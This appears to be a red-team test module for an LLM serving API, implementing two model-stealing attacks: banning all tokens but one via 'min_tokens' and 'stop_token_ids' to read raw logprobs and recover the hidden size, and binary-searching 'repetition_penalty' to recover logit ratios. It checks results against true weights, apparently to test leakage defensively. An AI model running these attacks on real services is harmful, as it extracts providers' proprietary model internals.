"""R3s, R3t: what moves logits without being called a bias.

`min_tokens` masks the `stop_token_ids` until so many tokens have come: whoever bans all tokens but one is told that one's logprob,
raw. And `repetition_penalty` divides the positive logits of all that the prompt says: below 1 it lifts them, and the penalty at
which the best of them begins to win is its share of the largest logit, found by halving.
"""

import numpy as np

from loadtests.redteam.attack import Finding, Scene
from loadtests.redteam.bias import (
    ERROR,
    SPARE,
    contexts,
    exactly_the_hidden_size,
    in_batches,
    one_token,
    some_readable,
)
from loadtests.redteam.target import COMPLETIONS, Stopped, together
from loadtests.redteam.victim import logits, output_projection

RATIOS, BITS, LEAST = 300, 12, 0.02
"""Ratios wanted, of two contexts each at most; steps of a search; and the smallest penalty that is tried."""


async def steal_by_bans(scene: Scene) -> Finding:
    """One scalar per answer: (h + 16)² of them. Success: exactly h. Where the list is too long, one token is banned at a time."""
    vocabulary, true = output_projection(scene.folder).shape
    prompts = contexts(true + SPARE, vocabulary, scene.seed)
    banned = {"min_tokens": 1, "logprobs": 1}
    columns = []
    for token in some_readable(scene, true + SPARE):
        others = [other for other in range(vocabulary) if other != token]
        try:
            choices = await in_batches(scene, prompts, banned | {"stop_token_ids": others})
        except Stopped:
            scene.target.forgive()
            choices = await in_batches(scene, prompts, banned | {"stop_token_ids": [token]})
        columns.append([choice["logprobs"]["token_logprobs"][0] for choice in choices])
    return exactly_the_hidden_size(columns, true)


async def steal_by_penalties(scene: Scene) -> Finding:
    """No logprobs and no ids at all. Success: RATIOS ratios of two logits, none off by more than 0.01."""
    vocabulary = output_projection(scene.folder).shape[0]
    prompts = contexts(2 * RATIOS, vocabulary, scene.seed)
    found: dict[int, float] = {}
    places = iter(range(len(prompts)))

    async def search() -> None:
        for place in places:
            ratio = await _ratio(scene, prompts[place])
            if ratio is not None:
                found[place] = ratio
            if len(found) >= RATIOS:
                return

    await together(search() for _ in range(scene.target.width))
    truth = logits(scene.folder, [prompts[place] for place in found])
    true = [row[prompts[place]].max() / row.max() for place, row in zip(found, truth, strict=True)]
    off = np.abs(np.array(list(found.values())) - true)
    largest = float(off.max(initial=0.0))
    return Finding(
        len(found) >= RATIOS and largest < ERROR,
        f"{len(found)} ratios of logits, largest error {largest:.4f}",
        {"ratios": len(found), "largest error": largest},
    )


async def _ratio(scene: Scene, prompt: list[int]) -> float | None:
    """The prompt's largest logit as a share of the largest of all; None if it is that one, or never wins."""
    top, lifted = await _winner(scene, prompt, 1.0), await _winner(scene, prompt, LEAST)
    if top == lifted:
        return None
    low, high = LEAST, 1.0
    for _ in range(BITS):
        middle = (low + high) / 2
        low, high = (middle, high) if await _winner(scene, prompt, middle) == lifted else (low, middle)
    return (low + high) / 2


async def _winner(scene: Scene, prompt: list[int], penalty: float) -> str:
    answer = await scene.target.ask(COMPLETIONS, one_token(prompt=prompt, repetition_penalty=penalty))
    return str(answer["choices"][0]["text"])
